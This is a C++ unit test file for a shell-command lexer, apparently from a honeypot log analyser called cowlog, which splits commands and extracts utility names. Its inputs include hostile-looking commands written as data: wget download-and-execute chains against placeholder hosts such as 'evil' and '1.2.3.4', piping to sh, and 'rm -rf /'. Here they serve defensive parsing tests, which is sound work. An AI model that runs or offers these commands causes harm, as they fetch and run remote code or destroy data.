#include <catch2/catch_amalgamated.hpp>

#include <fstream>
#include <random>

#include <json.hpp>

#include "cowlog/lexer.hpp"

using namespace cowlog;

TEST_CASE("segment splits on unquoted operators", "[lexer]") {
  auto segs = segment("cd /tmp && wget http://h/p.sh");
  REQUIRE(segs.segments.size() == 2);
  CHECK(segs.segments[0].text == "cd /tmp");
  CHECK(segs.segments[1].text == "wget http://h/p.sh");
  CHECK(segs.segments[1].separator_before == SeparatorKind::AndAnd);

  segs = segment("echo \"a;b\"; ls");
  REQUIRE(segs.segments.size() == 2);
  CHECK(segs.segments[0].text == "echo \"a;b\"");
  CHECK(segs.segments[1].text == "ls");

  CHECK(segment("").segments.empty());
  CHECK(segment(" ;; ; ").segments.empty());

  segs = segment("ls | grep x || echo fail\npwd");
  REQUIRE(segs.segments.size() == 4);
  CHECK(segs.segments[1].separator_before == SeparatorKind::Pipe);
  CHECK(segs.segments[2].separator_before == SeparatorKind::OrOr);
  CHECK(segs.segments[3].separator_before == SeparatorKind::Semicolon);
}

TEST_CASE("single ampersand is not a separator", "[lexer]") {
  auto segs = segment("nohup ./m.sh &");
  REQUIRE(segs.segments.size() == 1);
  CHECK(segs.segments[0].tokens.size() == 3);
}

TEST_CASE("tokenize is quote aware and keeps quotes", "[lexer]") {
  auto t = tokenize("wget -q http://x");
  CHECK(t.tokens == std::vector<std::string>{"wget", "-q", "http://x"});

  t = tokenize("echo 'a b'");
  CHECK(t.tokens == std::vector<std::string>{"echo", "'a b'"});

  CHECK(tokenize("  ").tokens.empty());

  t = tokenize("echo 'oops");
  CHECK(t.unterminated_quote);
  CHECK(t.tokens == std::vector<std::string>{"echo", "'oops"});
}

TEST_CASE("unterminated quotes are lenient in segment too", "[lexer]") {
  auto segs = segment("echo 'a;b");
  CHECK(segs.unterminated_quote);
  REQUIRE(segs.segments.size() == 1);  // the ; stays quoted
}

TEST_CASE("extract_utilities handles paths, wrappers and assignments",
          "[lexer]") {
  CHECK(extract_utilities("wget http://evil/x.sh") ==
        std::vector<std::string>{"wget"});
  CHECK(extract_utilities("cd /tmp && /usr/bin/wget http://e/x; chmod +x x") ==
        std::vector<std::string>{"cd", "wget", "chmod"});
  CHECK(extract_utilities("sudo tar xvf a.tgz | sh") ==
        std::vector<std::string>{"sudo", "tar", "sh"});
  CHECK(extract_utilities("FOO=1 env ls") ==
        std::vector<std::string>{"env", "ls"});
  CHECK(extract_utilities("busybox wget http://1.2.3.4/bins") ==
        std::vector<std::string>{"busybox", "wget"});
  CHECK(extract_utilities("").empty());
  CHECK(extract_utilities("   ").empty());
}

TEST_CASE("redirections and flags never become utilities", "[lexer]") {
  CHECK(extract_utilities("> /tmp/f echo hi") ==
        std::vector<std::string>{"echo"});
  CHECK(extract_utilities("2>&1 grep cpu /proc/cpuinfo") ==
        std::vector<std::string>{"grep"});
  CHECK(extract_utilities(">out.log cat x") == std::vector<std::string>{"cat"});
  // a flag head yields nothing from that point on
  CHECK(extract_utilities("sudo -u root tar xf a") ==
        std::vector<std::string>{"sudo"});
  CHECK(extract_utilities("--help").empty());
}

TEST_CASE("quoted payloads stay opaque", "[lexer]") {
  CHECK(extract_utilities("bash -c 'wget http://x; sh x'") ==
        std::vector<std::string>{"bash"});
  CHECK(extract_utilities("echo \"rm -rf /\"") ==
        std::vector<std::string>{"echo"});
}

TEST_CASE("quoted heads are unquoted before basename", "[lexer]") {
  CHECK(extract_utilities("'/bin/sh' x.sh") == std::vector<std::string>{"sh"});
}

TEST_CASE("lexer is total and utilities are clean on random input",
          "[lexer][property]") {
  std::mt19937_64 rng(7321);
  const std::string alphabet =
      "abcXYZ0189 \t'\";&|/=-<>$(){}`\\\n~!@#%^*";
  for (int i = 0; i < 3000; ++i) {
    size_t len = rng() % 48;
    std::string s;
    for (size_t k = 0; k < len; ++k) s += alphabet[rng() % alphabet.size()];
    auto first = extract_utilities(s);
    auto second = extract_utilities(s);
    CHECK(first == second);  // deterministic
    for (const auto& name : first) {
      CHECK(!name.empty());
      CHECK(name.find('/') == std::string::npos);
    }
  }
}

TEST_CASE("rule oracle matches the hand-labeled golden corpus", "[lexer]") {
  std::ifstream in(std::string(COWLOG_TEST_DATA_DIR) + "/golden_commands.jsonl");
  REQUIRE(in.good());
  std::string line;
  size_t n = 0, matched = 0;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    nlohmann::json j = nlohmann::json::parse(line);
    ++n;
    std::string joined;
    for (const auto& u : extract_utilities(j["context"].get<std::string>())) {
      if (!joined.empty()) joined += ' ';
      joined += u;
    }
    if (joined == j["answer"].get<std::string>()) {
      ++matched;
    } else {
      UNSCOPED_INFO("line " << n << ": context=" << j["context"]
                            << " expected=" << j["answer"] << " got='"
                            << joined << "'");
      CHECK(joined == j["answer"].get<std::string>());
    }
  }
  CHECK(n == 200);
  CHECK(matched == n);
}
